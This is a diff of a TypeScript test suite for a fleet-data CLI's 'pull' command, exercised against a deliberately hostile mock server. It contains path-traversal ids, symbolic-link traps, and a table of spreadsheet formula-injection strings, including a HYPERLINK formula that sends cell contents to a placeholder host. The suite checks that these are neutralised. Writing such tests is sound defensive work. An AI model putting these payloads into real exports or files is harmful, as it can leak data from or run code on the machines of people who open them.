@@ -1,7 +1,5 @@
 import assert from 'node:assert/strict'
 import {
-  chmodSync,
-  existsSync,
   lstatSync,
   mkdirSync,
   mkdtempSync,
@@ -16,8 +14,8 @@ import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
 import { after, describe, it } from 'node:test'
 import { parse } from 'csv-parse/sync'
-import type { Ended } from '../../packages/server/src/cli/printed.ts'
-import { fleetgate } from '../harness/fleetgate.ts'
+import type { FinishedProgram } from '../../packages/server/src/cli/terminal/printed.ts'
+import { commandLine } from '../harness/make-fleet.ts'
 import { temporaryFolder } from '../harness/temporary-folder.ts'
 
 const KEY = 'fg_live_of_somebody'
@@ -27,16 +25,21 @@ const ROW = {
   ...{ time_device: '2026-11-20T10:00:00.000Z', engine_hours: null, odometer: null },
   ...{ mileage: null, address: null },
 }
+const DAY = '2026-11-20'
 
-/** The server's answers: any ids of objects, and one history for all of them. */
-let ids: unknown[] = []
-/** In place of its list of objects. */
-let listed: unknown
-let rows: object[] = [ROW]
+/** The server's answer: any objects and positions, always as the first page. */
+let objects: unknown[] = []
+let rows: unknown[] = [ROW]
+/** Replaces its whole result. */
+let answered: unknown
 
-const server = createServer((request, response) => {
-  const isList = request.url === '/public/v1/objects'
-  const result = isList ? (listed ?? ids.map((id) => ({ ...ROW, id }))) : rows
+const server = createServer((_, response) => {
+  const changes = [
+    ...objects.map((object) => ({ type: 'object', op: 'put', object, seq: 1 })),
+    ...rows.map((position) => ({ type: 'position', op: 'put', late: false, position, seq: 1 })),
+  ]
+  const page = { as_of: 1, distance_unit: 'km', snapshot: true, changes, has_more: false }
+  const result = answered ?? { ...page, cursor: `cursor ${JSON.stringify(changes).length}` }
   response.setHeader('Content-Type', 'application/json')
   response.end(JSON.stringify({ statusCode: 200, result }))
 })
@@ -45,87 +48,113 @@ after(() => server.close())
 const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
 
 const folder = temporaryFolder()
-/** Lies two folders below `folder`, so that `../../` leads to it. */
+/** Two folders below `folder`, so that `../../` leads to it. */
 const newOut = () => join(mkdtempSync(join(folder, 'run-')), 'out')
 
-function pull(out: string, ...more: string[]): Promise<Ended> {
-  return fleetgate(['pull', '--url', url, '--api-key', KEY, '--out', out, ...more])
+const { runHere } = await commandLine()
+
+function pull(out: string, ...more: string[]): Promise<FinishedProgram> {
+  return runHere(['pull', '--url', url, '--api-key', KEY, '--out', out, ...more])
 }
 
-/** Every file and folder below the test's folder, by its path from there. */
+/** Every file and folder below the test's folder, by its relative path. */
 const everything = () => readdirSync(folder, { recursive: true }).sort()
 const modeOf = (path: string) => (lstatSync(path).mode & 0o777).toString(8)
 
-describe('fleetgate pull from a server that means harm', () => {
-  it('makes no file for an object whose id is not a positive whole number', async () => {
-    for (const id of ['../../evil', '3', -3, 2 ** 53, undefined]) {
-      ids = [3, id]
+describe('fleetgate pull from a hostile server', () => {
+  it('makes no file for positions with wrong ids, times or numbers', async () => {
+    const wrong = [
+      ...['../../evil', '3', -3, 2 ** 53, undefined].map((id) => ({ ...ROW, id })),
+      ...['../../evil', '+010000-01-01T00:00:00.000Z', 7, null].map((time) => ({
+        ...ROW,
+        time_device: time,
+      })),
+      { ...ROW, latitude: '=1+1' },
+    ]
+    for (const row of wrong) {
+      objects = [ROW]
+      rows = [ROW, row]
       const out = newOut()
       mkdirSync(out)
       const before = everything()
       const { code, stdout, stderr } = await pull(out)
+      assert.deepEqual(readdirSync(join(out, 'positions')), [])
       rmSync(join(out, '.pull'), { recursive: true })
+      rmSync(join(out, 'positions'), { recursive: true })
       assert.deepEqual(everything(), before)
       assert.deepEqual([code, stdout], [1, ''])
-      assert.match(stderr, /^fleetgate pull: the server sent an object with the id .*\n$/)
-    }
-  })
-
-  it('says in a sentence that a list of objects is none', async () => {
-    for (const list of ['text', { map: 1 }, [null], [7]]) {
-      listed = list
-      const { code, stderr } = await pull(newOut())
-      listed = undefined
-      assert.equal(code, 1)
       assert.match(
         stderr,
-        /^fleetgate pull: (the server sent an object with the id|what answered is no) /,
+        /^fleetgate pull: the server sent the (id|time|value) .*: check --url\n$/,
       )
     }
   })
 
-  it('makes files that their owner alone can read', async () => {
-    ids = [3]
-    const out = newOut()
-    assert.equal((await pull(out)).code, 0)
-    const states = join(out, '.pull')
-    assert.deepEqual([modeOf(out), modeOf(states)], ['700', '700'])
-    const [file, state] = [join(out, '3.ndjson'), join(states, '3.ndjson.json')]
-    assert.deepEqual([modeOf(file), modeOf(state)], ['600', '600'])
-    // An owner who let others read a file has meant it.
-    chmodSync(file, 0o640)
-    assert.equal((await pull(out)).code, 0)
-    assert.equal(modeOf(file), '640')
+  it('reports an answer that is no page in one sentence', async () => {
+    for (const wrong of [
+      'text',
+      { map: 1 },
+      { changes: [null], cursor: '', has_more: false },
+      [7],
+    ]) {
+      answered = wrong
+      const { code, stderr } = await pull(newOut())
+      answered = undefined
+      assert.equal(code, 1)
+      assert.match(stderr, /^fleetgate pull: .*\n$/)
+    }
   })
 
-  it('follows no symbolic link that lies in its folder', async () => {
-    ids = [3]
+  it('makes files that only their owner can read', async () => {
+    objects = [ROW]
+    rows = [ROW]
+    const out = newOut()
+    assert.equal((await pull(out)).code, 0)
+    const folders = ['.', '.pull', 'positions'].map((name) => modeOf(join(out, name)))
+    assert.deepEqual(folders, ['700', '700', '700'])
+    const files = readdirSync(out, { recursive: true, withFileTypes: true }).filter((each) =>
+      each.isFile(),
+    )
+    assert.ok(files.length >= 6)
+    for (const { parentPath, name } of files)
+      assert.equal(modeOf(join(parentPath, name)), '600', name)
+  })
+
+  it('follows no symbolic link in its folder', async () => {
+    objects = [ROW]
+    rows = [ROW]
     const [target, content] = [join(folder, 'precious'), 'precious '.repeat(1_000)]
-    for (const link of ['3.ndjson', '.pull/3.ndjson.json', '.pull/3.ndjson.json.next']) {
+    for (const link of ['.pull/next', '.pull/copy.db', '.pull/copy.db-wal']) {
       writeFileSync(target, content)
       const out = newOut()
-      assert.equal((await pull(out)).code, 0)
-      if (link.startsWith('.pull')) rmSync(join(out, link), { force: true })
-      else writeFileSync(target, readFileSync(join(out, link)))
-      const before = readFileSync(target, 'utf8')
-      rmSync(join(out, link), { force: true })
+      mkdirSync(join(out, '.pull'), { recursive: true })
       symlinkSync(target, join(out, link))
-      const { code, stderr } = await pull(out, '--late', '7d')
+      const { code, stderr } = await pull(out)
       assert.equal(code, 1)
       assert.match(stderr, /^fleetgate pull: \S+ is a symbolic link: .*\n$/)
-      assert.equal(readFileSync(target, 'utf8'), before)
+      assert.equal(readFileSync(target, 'utf8'), content)
     }
+    // A file takes the place of a link.
     const out = newOut()
     mkdirSync(out)
-    symlinkSync(mkdtempSync(join(folder, 'elsewhere-')), join(out, '.pull'))
-    const { code, stderr } = await pull(out)
-    assert.equal(code, 1)
-    assert.match(stderr, /^fleetgate pull: \S+\.pull is a symbolic link: .*\n$/)
-    assert.equal(existsSync(join(out, '3.ndjson')), false)
+    symlinkSync(target, join(out, 'objects.ndjson'))
+    assert.equal((await pull(out)).code, 0)
+    assert.equal(readFileSync(target, 'utf8'), content)
+    assert.ok(lstatSync(join(out, 'objects.ndjson')).isFile())
+    for (const name of ['.pull', 'positions']) {
+      const elsewhere = newOut()
+      mkdirSync(elsewhere)
+      const to = mkdtempSync(join(folder, 'elsewhere-'))
+      symlinkSync(to, join(elsewhere, name))
+      const { code, stderr } = await pull(elsewhere)
+      assert.equal(code, 1)
+      assert.match(stderr, /^fleetgate pull: \S+ is a symbolic link: .*\n$/)
+      assert.deepEqual(readdirSync(to), [])
+    }
   })
 })
 
-/** Texts that a spreadsheet runs, or splits into cells that it runs, and what is harmless instead. */
+/** Texts that a spreadsheet would run, or would split into cells that it runs, and their harmless forms. */
 const FORMULAS = {
   '=HYPERLINK("http://x/"&A1)': '\'=HYPERLINK("http://x/"&A1)',
   '+1+1': "'+1+1",
@@ -140,7 +169,7 @@ const FORMULAS = {
   '－1': "'－1",
   '＠x': "'＠x",
   '"=1+1': '"\'=1+1',
-  // Where the machine's list separator is a semicolon or a tab, and quotes do not protect.
+  // If the list separator of the machine is a semicolon or a tab, quotes do not protect.
   'x;=1+1;y': "x;'=1+1;y",
   'x;"=1+1': 'x;"\'=1+1',
   'x\n=1+1': "x\n'=1+1",
@@ -151,63 +180,52 @@ const HARMLESS = ['', 'Van 3', '3-5', 'a=b', 'x,=1', "'=1+1", 'Main St 5; Porto'
 describe('A CSV file of fleetgate pull', () => {
   const texts = [...Object.keys(FORMULAS), ...HARMLESS]
   const namesIn = (out: string) =>
-    parse(readFileSync(join(out, '3.csv'), 'utf8'), { columns: true, record_delimiter: '\n' }).map(
-      (row) => Object.values(row as object),
-    )
-  const cells = (text: string) => ['3', text, text, '41', '-2.5', '', '', '']
+    parse(readFileSync(join(out, `positions/${DAY}.csv`), 'utf8'), {
+      columns: true,
+      record_delimiter: '\n',
+    }).map((row) => Object.values(row as object))
   const timeOf = (i: number) => new Date(Date.UTC(2026, 10, 20, 0, 0, i)).toISOString()
 
-  function send(sent: string[], from = 0): void {
-    ids = [3]
-    rows = sent.map((text, i) => ({
-      ...{ ...ROW, ident: text, name: text, address: text },
-      ...{ time_server: timeOf(from + i), time_device: timeOf(from + i) },
-    }))
+  function send(sent: string[]): void {
+    objects = sent.map((text, i) => ({ ...ROW, id: i + 1, ident: text, name: text }))
+    rows = sent.map((text, i) => {
+      const times = { time_server: timeOf(i), time_device: timeOf(i) }
+      return { ...ROW, id: i + 1, address: text, ...times }
+    })
   }
 
   function expected(written: string[]): string[][] {
-    return written.map((text, i) => [...cells(text), timeOf(i), timeOf(i), '', '', '', text])
+    return written.map((text, i) => [
+      ...[`${i + 1}`, text, text, '41', '-2.5', '', '', ''],
+      ...[timeOf(i), timeOf(i), '', '', '', text],
+    ])
   }
 
-  it('has an apostrophe before what a spreadsheet would run, and numbers as they are', async () => {
+  it('has an apostrophe before each text that a spreadsheet would run, and unchanged numbers', async () => {
     send(texts)
     const out = newOut()
     assert.equal((await pull(out, '--format', 'csv')).code, 0)
     assert.deepEqual(namesIn(out), expected([...Object.values(FORMULAS), ...HARMLESS]))
   })
 
-  it('has the texts as they are with --raw', async () => {
+  it('has unchanged texts with --raw', async () => {
     send(texts)
     const out = newOut()
     assert.equal((await pull(out, '--format', 'csv', '--raw')).code, 0)
     assert.deepEqual(namesIn(out), expected(texts))
   })
 
-  it('goes on as it was begun, and says so where that is with formulas', async () => {
+  it('keeps its form', async () => {
     const out = newOut()
-    const state = join(out, '.pull', '3.csv.json')
     send(['=1'])
     assert.equal((await pull(out, '--format', 'csv', '--raw')).code, 0)
-    // As a version left it that knew no --raw.
-    const { raw: _, ...old } = JSON.parse(readFileSync(state, 'utf8'))
-    writeFileSync(state, JSON.stringify(old))
-    send(['=2'], 1)
-    const later = await pull(out, '--format', 'csv')
-    assert.equal(later.code, 0)
-    assert.match(later.stderr, /^fleetgate pull: object 3: \S+3\.csv was begun with --raw .*\n$/)
-    send(['=3'], 2)
-    const asked = await pull(out, '--format', 'csv', '--raw')
-    assert.deepEqual([asked.code, asked.stderr], [0, ''])
-    assert.deepEqual(namesIn(out), expected(['=1', '=2', '=3']))
-
-    const safe = newOut()
-    assert.equal((await pull(safe, '--format', 'csv')).code, 0)
-    const refused = await pull(safe, '--format', 'csv', '--raw')
+    const refused = await pull(out, '--format', 'csv')
     assert.equal(refused.code, 1)
-    assert.match(refused.stderr, /^fleetgate pull: \S+3\.csv was begun without --raw: .*\n$/)
+    assert.match(refused.stderr, /^fleetgate pull: \S+ was begun with --raw: .*\n$/)
+    assert.deepEqual(namesIn(out), expected(['=1']))
   })
 
-  it('is what --raw is for alone', async () => {
+  it('is the only format that accepts --raw', async () => {
     const { code, stderr } = await pull(newOut(), '--raw')
     assert.deepEqual(
       [code, stderr],
